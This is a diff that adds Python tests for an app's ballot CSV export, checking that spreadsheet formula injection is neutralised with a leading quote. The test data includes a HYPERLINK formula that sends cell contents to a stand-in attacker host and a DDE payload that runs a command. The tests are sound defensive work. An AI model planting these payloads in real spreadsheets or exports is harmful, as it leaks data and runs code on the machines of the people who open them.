@@ -87,3 +87,42 @@ def test_stv_result_page(client, world):
     login(client, world.member)
     html = client.get(f"/c/riverside/referenda/{stv.id}/result").get_data(as_text=True)
     assert "Quota (Droop): <strong>2.00000</strong>" in html and "order of election: Individually" in html
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]
+
+
+def _formula_vote(world):
+    from datetime import timedelta
+
+    from openbargain.clock import set_clock
+    from openbargain.services import casting, results
+    from openbargain.services.proposals import OptionDraft
+
+    elected = db.session.scalar(select(Membership).where(Membership.user_id == world.elected.id))
+    r = factories.make_open_referendum(world, elected, kind="ranked", title="Labels",
+                                       options=[OptionDraft(label, "Do it.") for label in FORMULAS])
+    casting.cast_ballot(world.member, world.chapter, r.id, {"ranking": FORMULAS})
+    closed = r.closes_at + timedelta(minutes=1)
+    set_clock(lambda: closed)
+    results.certify_closed()
+    return r
+
+
+def test_the_csv_export_neutralises_formulas_and_the_json_keeps_them(client, world):
+    import csv
+    import io
+
+    r = _formula_vote(world)
+    login(client, world.member)
+    rows = list(csv.reader(io.StringIO(client.get(f"/c/riverside/referenda/{r.id}/ballots.csv").get_data(as_text=True))))
+    assert rows[0] == ["ranking"] and rows[1] == ["'" + f for f in FORMULAS]
+    document = client.get(f"/c/riverside/referenda/{r.id}/export.json").get_json()
+    assert document["ballots"] == [{"ranking": FORMULAS}]
+
+
+def test_safe_cell_rule():
+    from openbargain.web.csvsafe import safe_cell
+
+    assert [safe_cell(v) for v in ["=1", "+1", "-1", "@a", "\tx", "\rx", "plain", "a=b", "", None, 3]] == \
+        ["'=1", "'+1", "'-1", "'@a", "'\tx", "'\rx", "plain", "a=b", "", "", "3"]
